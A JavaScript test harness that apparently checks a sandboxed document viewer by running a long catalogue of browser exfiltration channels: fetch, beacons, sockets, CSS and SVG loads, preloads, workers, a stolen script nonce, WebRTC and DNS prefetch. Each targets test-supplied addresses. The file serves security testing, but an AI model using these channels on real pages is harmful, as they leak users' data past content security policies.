// @ts-check
'use strict';
/**
 * Every way out of a document that was looked at, by name, as its own script would try it. The tests put this text into a
 * frame, with where to go to: the script is what an attacker would run there. Each way is tried for each address; a way that
 * throws was stopped, and none may stop the others.
 */

/**
 * Where a script tries to get to.
 * @typedef {object} Targets
 * @property {(way: string) => string[]} urls The addresses for one way: of a stranger, and of the node that served this.
 * @property {(way: string) => string} host `127.0.0.1:port` of a listener for this way alone.
 * @property {(way: string) => string} name A host's name for this way alone.
 */

/** @param {Targets} targets @returns {Record<string, () => unknown>} */
function ways({ urls, host, name }) {
  const odd = /** @type {any} */ (globalThis);
  const doc = document;
  /** An element with attributes, somewhere in the document. @param {string} tag @param {Record<string, string>} [attributes] @param {Element} [into] */
  const put = (tag, attributes = {}, into = doc.body) => {
    const made = doc.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    into.append(made);
    return /** @type {any} */ (made);
  };
  /** @param {string} tag @param {Record<string, string>} [attributes] */
  const svg = (tag, attributes = {}) => {
    const made = doc.createElementNS('http://www.w3.org/2000/svg', tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return made;
  };
  const drawing = (/** @type {Element[]} */ ...children) => {
    const root = svg('svg', { width: '20', height: '20' });
    root.append(...children);
    doc.body.append(root);
    return root;
  };
  const link = (/** @type {Record<string, string>} */ attributes) => put('link', attributes, doc.head);
  /** What lets a script or a style in, wherever this script can read it. */
  const nonce = [...doc.querySelectorAll('*')].map((one) => /** @type {any} */ (one).nonce).find(Boolean) ?? '';
  const nonced = (/** @type {Record<string, string>} */ attributes) => ({ nonce, ...attributes });
  const style = (/** @type {string} */ text) => { put('style', nonced({}), doc.head).textContent = text; };
  let ids = 0;
  /** An element that a rule can be about. */
  const box = (text = 'x') => {
    const made = put('div', { id: `box${(ids += 1)}` });
    made.textContent = text;
    return made;
  };
  const script = (/** @type {string} */ text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const frame = (/** @type {Record<string, string>} */ attributes) => put('iframe', attributes);
  const ws = (/** @type {string} */ url) => url.replace(/^http/, 'ws');
  /** For each address, whatever becomes of the others. @param {string} way @param {(url: string) => unknown} go */
  const each = (way, go) => () => Promise.allSettled(urls(way).map(async (url) => go(url)));
  /** Until a peer connection has looked for its addresses. @param {RTCIceServer} server */
  const rtc = async (server) => {
    const peer = new RTCPeerConnection({ iceServers: [server] });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => { peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') done(undefined); }; });
  };

  /** @type {Record<string, (url: string) => unknown>} */
  const byUrl = {
    // These two want a recent click.
    paymentrequest: (url) => new odd.PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment(),
    fedcm: (url) => odd.navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x', nonce: 'x' }] } }),

    fetch: (url) => fetch(url),
    'fetch-nocors': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' }),
    'fetch-keepalive': (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
    fetchLater: (url) => odd.fetchLater(url, { activateAfter: 0 }),
    xhr: (url) => { const asks = new XMLHttpRequest(); asks.open('GET', url); asks.send(); return new Promise((done) => { asks.onloadend = done; }); },
    'xhr-sync': (url) => { const asks = new XMLHttpRequest(); asks.open('GET', url, false); asks.send(); },
    websocket: (url) => { const socket = new WebSocket(ws(url)); return new Promise((done) => { socket.onclose = done; }); },
    websocketstream: (url) => new odd.WebSocketStream(ws(url)).opened,
    eventsource: (url) => { const source = new EventSource(url); return new Promise((done) => { source.onerror = () => { source.close(); done(undefined); }; }); },
    beacon: (url) => navigator.sendBeacon(url, 'x'),
    webtransport: (url) => new odd.WebTransport(url.replace(/^http:/, 'https:')).ready,

    img: (url) => { new Image().src = url; },
    srcset: (url) => put('img', { srcset: `${url} 1x`, alt: '' }),
    picture: (url) => { const picture = put('picture'); put('source', { srcset: url }, picture); put('img', { alt: '' }, picture); },
    'input-image': (url) => put('input', { type: 'image', src: url, alt: '' }),
    attributionsrc: (url) => put('img', { attributionsrc: url, alt: '' }),
    'css-url(nonce)': (url) => style(`#${box().id} { background: url("${url}") }`),
    'css-inline-attr': (url) => put('div', { style: `background: url("${url}")` }).append('x'),
    'css-cssom': (url) => { box().style.backgroundImage = `url("${url}")`; },
    'css-import(nonce)': (url) => style(`@import url("${url}");`),
    'css-fontface(nonce)': (url) => { const made = box(); style(`@font-face { font-family: ${made.id}; src: url("${url}") } #${made.id} { font-family: ${made.id} }`); },
    'FontFace()': (url) => new FontFace('out', `url("${url}")`).load(),
    'css-cursor': (url) => { box().style.cursor = `url("${url}"), auto`; },
    'css-image-set': (url) => { box().style.backgroundImage = `image-set(url("${url}") 1x)`; },
    'constructed-sheet': (url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`#${box().id} { background: url("${url}") }`);
      doc.adoptedStyleSheets = [...doc.adoptedStyleSheets, sheet];
    },
    'css-content-url': (url) => { box().style.content = `url("${url}")`; },
    'mathml/href-css-mask': (url) => {
      const made = box();
      made.style.mask = `url("${url}#m")`;
      made.style.webkitMaskImage = `url("${url}")`;
      const math = doc.createElementNS('http://www.w3.org/1998/Math/MathML', 'math');
      math.setAttribute('href', url);
      doc.body.append(math);
    },

    'link-stylesheet': (url) => link({ rel: 'stylesheet', href: url }),
    'link-stylesheet(nonce)': (url) => link(nonced({ rel: 'stylesheet', href: url })),
    'link-prefetch': (url) => link({ rel: 'prefetch', href: url }),
    'link-preload-img': (url) => link({ rel: 'preload', as: 'image', href: url }),
    'link-preload-script(nonce)': (url) => link(nonced({ rel: 'preload', as: 'script', href: url })),
    'link-preload-fetch': (url) => link({ rel: 'preload', as: 'fetch', crossorigin: '', href: url }),
    'link-modulepreload': (url) => link({ rel: 'modulepreload', href: url }),
    'link-modulepreload(nonce)': (url) => link(nonced({ rel: 'modulepreload', href: url })),
    'link-prerender': (url) => link({ rel: 'prerender', href: url }),
    'link-icon': (url) => link({ rel: 'icon', href: url }),
    'link-manifest': (url) => link({ rel: 'manifest', href: url }),

    'svg-image': (url) => drawing(svg('image', { href: url, width: '9', height: '9' })),
    'svg-use': (url) => drawing(svg('use', { href: `${url}#x` })),
    'svg-feImage': (url) => {
      const filter = svg('filter', { id: `box${(ids += 1)}` });
      filter.append(svg('feImage', { href: url }));
      drawing(filter, svg('rect', { width: '9', height: '9', filter: `url(#box${ids})` }));
    },
    'svg-ext-filter': (url) => { box().style.filter = `url("${url}#x")`; },
    'svg-in-data-img': (url) => put('img', { alt: '', src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`)}` }),

    'video-poster': (url) => put('video', { poster: url }),
    video: (url) => put('video', { src: url, preload: 'auto' }),
    audio: (url) => put('audio', { src: url, preload: 'auto' }),
    'audio-source': (url) => { const audio = put('audio', { preload: 'auto' }); put('source', { src: url }, audio); },
    track: (url) => {
      const video = put('video', { crossorigin: 'anonymous' });
      const track = put('track', { src: url, kind: 'captions', default: '' }, video);
      track.track.mode = 'showing';
    },

    iframe: (url) => frame({ src: url }),
    'iframe-srcdoc-img': (url) => frame({ srcdoc: `<img src="${url}">` }),
    'iframe-blank-img': (url) => {
      const inner = frame({}).contentDocument;
      inner.body.append(Object.assign(inner.createElement('img'), { src: url }));
    },
    fencedframe: (url) => { put('fencedframe').config = new odd.FencedFrameConfig(url); },
    object: (url) => put('object', { data: url }),
    embed: (url) => put('embed', { src: url }),
    'form-to-iframe': (url) => {
      const inner = frame({ name: `box${(ids += 1)}` });
      const form = put('form', { action: url, method: 'post', target: inner.getAttribute('name') });
      put('input', { name: 'q', value: 'x' }, form);
      form.submit();
    },

    worker: (url) => new Worker(url),
    'worker-blob-fetch': (url) => new Worker(script(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`)),
    'worker-data': (url) => new Worker(`data:text/javascript,${encodeURIComponent(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`)}`),
    sharedworker: (url) => new SharedWorker(url),
    serviceworker: (url) => navigator.serviceWorker.register(url),
    'import()': (url) => import(url),
    'script-nononce': (url) => put('script', { src: url }, doc.head),
    'script-WITH-stolen-nonce': (url) => put('script', nonced({ src: url }), doc.head),
    'import()-in-nonced-script': (url) => { put('script', nonced({}), doc.head).text = `import(${JSON.stringify(url)})`; },
    audioworklet: (url) => new AudioContext().audioWorklet.addModule(url),
    paintworklet: (url) => odd.CSS.paintWorklet.addModule(url),
    'sharedstorage-worklet': (url) => odd.sharedStorage.worklet.addModule(url),
    speculationrules: (url) => {
      const made = put('script', nonced({ type: 'speculationrules' }), doc.head);
      made.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [url] }] });
    },
    'a-ping': (url) => {
      const made = put('a', { href: '#', ping: url });
      made.addEventListener('click', () => {}, { once: true });
      made.click();
    },
    'meta-csp-report-uri': (url) => {
      put('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${url}` }, doc.createElement('head'));
      link({ rel: 'reporting', href: url });
    },
    xslt: (url) => doc.insertBefore(doc.createProcessingInstruction('xml-stylesheet', `type="text/xsl" href="${url}"`), doc.documentElement),
    'html-parser-markup': (url) => { box().innerHTML = `<img src="${url}"><link rel=stylesheet href="${url}"><iframe src="${url}"></iframe>`; },
  };

  /** What is no request: a connection, a packet, a question for a name. @type {Record<string, () => unknown>} */
  const beneath = {
    'link-dns-prefetch': () => link({ rel: 'dns-prefetch', href: `//${name('link-dns-prefetch')}/` }),
    'link-preconnect': () => link({ rel: 'preconnect', href: `http://${host('link-preconnect')}/` }),
    'link-preconnect-dns': () => link({ rel: 'preconnect', href: `http://${name('link-preconnect-dns')}/` }),
    'a-hover-dns': () => { put('a', { href: `http://${name('a-hover-dns')}/` }).dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); },
    'rtc-stun': () => rtc({ urls: `stun:${host('rtc-stun')}` }),
    'rtc-turn-udp-username': () => rtc({ urls: `turn:${host('rtc-turn-udp-username')}?transport=udp`, username: 'what-it-knows', credential: 'x' }),
    'rtc-turn-tcp': () => rtc({ urls: `turn:${host('rtc-turn-tcp')}?transport=tcp`, username: 'what-it-knows', credential: 'x' }),
    'rtc-dns': () => rtc({ urls: `stun:${name('rtc-dns')}:3478` }),
  };
  return { ...Object.fromEntries(Object.entries(byUrl).map(([way, go]) => [way, each(way, go)])), ...beneath };
}

/** So long is waited for what a way itself waits for; whether anything arrived is looked at where it would. */
const WAY_ENDS = 200;

/**
 * Tries one after the other and says in the document how far it is.
 * @param {Targets} targets
 * @param {string[]} [only]
 */
async function tryAll(targets, only) {
  const all = ways(targets);
  /** @type {string[]} */
  const tried = [];
  for (const way of only ?? Object.keys(all)) {
    let ran;
    try { ran = all[way]?.(); } catch { /* Stopped. */ }
    await Promise.race([Promise.resolve(ran).catch(() => {}), new Promise((go) => { setTimeout(go, WAY_ENDS); })]);
    tried.push(way);
    document.documentElement.dataset.tried = String(tried.length);
  }
  document.documentElement.dataset.over = JSON.stringify(tried);
}
